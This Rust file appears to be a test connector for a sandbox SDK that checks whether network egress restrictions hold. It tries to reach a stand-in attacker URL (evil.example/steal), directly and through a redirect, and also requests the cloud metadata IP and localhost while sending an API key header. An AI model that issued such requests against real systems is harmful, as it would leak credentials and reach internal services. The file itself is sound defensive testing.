//! Proves that every way out of the egress grant is refused: a host the
//! connection does not allow, a redirect to such a host (followed by hand),
//! an IP literal of a private address, and a name that resolves to
//! loopback. `read` reports what happened to each attempt as one record.

use serde::Deserialize;
use serde_json::json;
use weir_sdk::http::Request;
use weir_sdk::{
    Checkpoint, Connector, Page, ReadRequest, Record, Result, Spec, StreamCapabilities,
};

struct HttpEscape;

weir_sdk::export_connector!(HttpEscape);

#[derive(Deserialize)]
struct Config {
    /// The partner simulator, which the connection allows.
    sim_url: String,
}

fn outcome(result: Result<weir_sdk::http::Response>) -> String {
    match result {
        Ok(response) => format!("status {}", response.status),
        Err(error) => format!("error: {error}"),
    }
}

impl Connector for HttpEscape {
    type Config = Config;

    fn spec() -> Spec {
        Spec::new("http-escape", "0.1.0")
            .host("config:/sim_url")
            .host("http://evil.example")
            .host("http://169.254.169.254:*")
            .host("http://localhost:*")
            .secret("api_key", "the simulator's key")
            .stream(StreamCapabilities::new("attempts"))
    }

    fn read(config: &Config, _request: ReadRequest) -> Result<Page> {
        let disallowed = outcome(Request::get("http://evil.example/steal").send());

        let redirect = Request::get(format!("{}/v1/redirect", config.sim_url))
            .query("to", "http://evil.example/steal")
            .secret_header("x-api-key", "api_key")
            .send()?;
        let location = redirect.header("location").unwrap_or_default().to_string();
        let followed = outcome(Request::get(location).send());

        let private_ip = outcome(Request::get("http://169.254.169.254/latest/meta-data/").send());

        let port = config.sim_url.rsplit(':').next().unwrap_or_default();
        let loopback_name = outcome(
            Request::get(format!("http://localhost:{port}/v1/contacts"))
                .secret_header("x-api-key", "api_key")
                .send(),
        );

        let attempts = json!({
            "disallowed": disallowed,
            "redirect_status": redirect.status,
            "redirect_followed": followed,
            "private_ip": private_ip,
            "loopback_name": loopback_name,
        });
        Ok(Page::new(
            vec![Record::from_serialize("attempts", &attempts)?],
            Checkpoint::from_json(1, "{}"),
        ))
    }
}
